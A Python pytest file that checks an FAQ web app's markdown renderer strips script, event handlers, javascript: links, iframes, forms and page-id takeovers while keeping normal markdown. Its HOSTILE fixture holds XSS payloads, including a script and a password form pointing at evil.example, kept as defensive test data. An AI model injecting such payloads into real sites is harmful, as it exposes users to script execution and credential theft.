"""Rendering and sanitising: markdown features survive, anything that could run script does not."""

from __future__ import annotations

import re

import pytest

from tests.faq.helpers import write_question
from webapp.faq.placeholders import values_from_config
from webapp.faq.rendering import render

HOSTILE = """\
## Heading one

<script>alert('in a block')</script>

Text <script src="https://evil.example/x.js"></script> and <img src=x onerror="alert(1)">.

[click me](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=)
and <a href="JAVASCRIPT:alert(2)">upper case</a>.

<a href="/faq/x" onclick="steal()" onmouseover="steal()" style="color:red">styled</a>

<div style="position:fixed" class="overlay"><iframe src="https://evil.example"></iframe>framed</div>

<svg onload="alert(3)"><circle r="1"/></svg>

<form action="https://evil.example"><input name="password"></form>

## Pinned {#main onclick="x()"}

<h3 id="faq-share-link">Takes over a page id</h3>
"""


@pytest.fixture
def known(app):
    return values_from_config(app.config)


def test_script_handlers_styles_and_javascript_links_are_neutralised(known):
    html = render(HOSTILE, known).html
    lowered = html.lower()
    assert "<script" not in lowered and "alert('in a block')" not in html
    assert "javascript:" not in lowered
    assert "data:text/html" not in lowered
    assert not re.search(r"\son[a-z]+\s*=", lowered)
    assert "style=" not in lowered
    for tag in ("<iframe", "<svg", "<form", "<input", "<img", "<div"):
        assert tag not in lowered
    assert "steal" not in html
    # the harmless text stays
    assert "styled" in html and "framed" in html and "click me" in html


def test_content_cannot_take_over_ids_the_page_uses(known):
    rendered = render(HOSTILE, known)
    assert 'id="main"' not in rendered.html
    assert 'id="faq-share-link"' not in rendered.html
    assert "heading-one" in rendered.ids


def test_markdown_features_are_kept(known):
    source = """\
## Section title

A paragraph with *emphasis*, **strength**, `code` and a [link](/faq/other "Other").

| Left | Right |
|:-----|------:|
| a    | 1     |

1. one
2. two

- bullet

> quoted

```
preformatted
```

### Sub-section {#pinned-anchor}
"""
    rendered = render(source, known)
    html = rendered.html
    assert '<h2 id="section-title">Section title</h2>' in html
    assert "<em>emphasis</em>" in html and "<strong>strength</strong>" in html
    assert "<code>code</code>" in html
    assert '<a href="/faq/other" title="Other"' in html
    assert '<th align="left">Left</th>' in html and '<td align="right">1</td>' in html
    assert "<ol>" in html and "<ul>" in html and "<blockquote>" in html and "<pre>" in html
    assert '<h3 id="pinned-anchor">' in html
    assert [(h.level, h.id, h.text) for h in rendered.headings] == [
        (2, "section-title", "Section title"), (3, "pinned-anchor", "Sub-section")]
    assert rendered.links == ("/faq/other",)
    assert "Section title A paragraph with emphasis" in rendered.text


def test_a_hostile_file_is_harmless_on_the_page(client, faq_dir):
    write_question(faq_dir, "hostile", HOSTILE, title="<script>alert('title')</script>")
    response = client.get("/faq/hostile")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", html, flags=re.S | re.I)
    assert scripts == [""]  # only the page's own external faq.js, with no inline code
    assert '<script src="/static/faq.js" defer>' in html
    assert "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;" in html  # title escaped
    assert "javascript:" not in html.lower()
    assert not re.search(r"\son[a-z]+\s*=", html.lower())
    assert "style=" not in html
